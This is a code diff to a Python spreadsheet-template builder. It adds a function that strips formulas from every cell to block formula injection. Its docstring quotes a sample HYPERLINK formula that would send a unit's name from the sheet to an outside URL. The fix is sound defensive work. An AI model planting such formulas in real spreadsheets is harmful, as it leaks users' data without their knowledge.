@@ -88,7 +88,22 @@ def build_template(
     wb.security = WorkbookProtection(lockStructure=True)
     wb.properties.creator = f"statuskart {__version__}"
     wb.properties.title = f"Statuskartleggingsskjema – {catalogue.title}"
+    _text_only(wb)
     return wb
+
+
+def _text_only(wb: Workbook) -> None:
+    """Every value written as text or a number, never as a formula.
+
+    openpyxl makes any text that starts with «=» a formula: a trust's catalogue title or a
+    --unit option like «=HYPERLINK("https://…?u="&Forside!B7)» would become a live link that
+    sends the unit's name away. The skjema has no formulas of its own.
+    """
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                if cell.data_type == "f":
+                    cell.data_type = "s"
 
 
 def write_template(
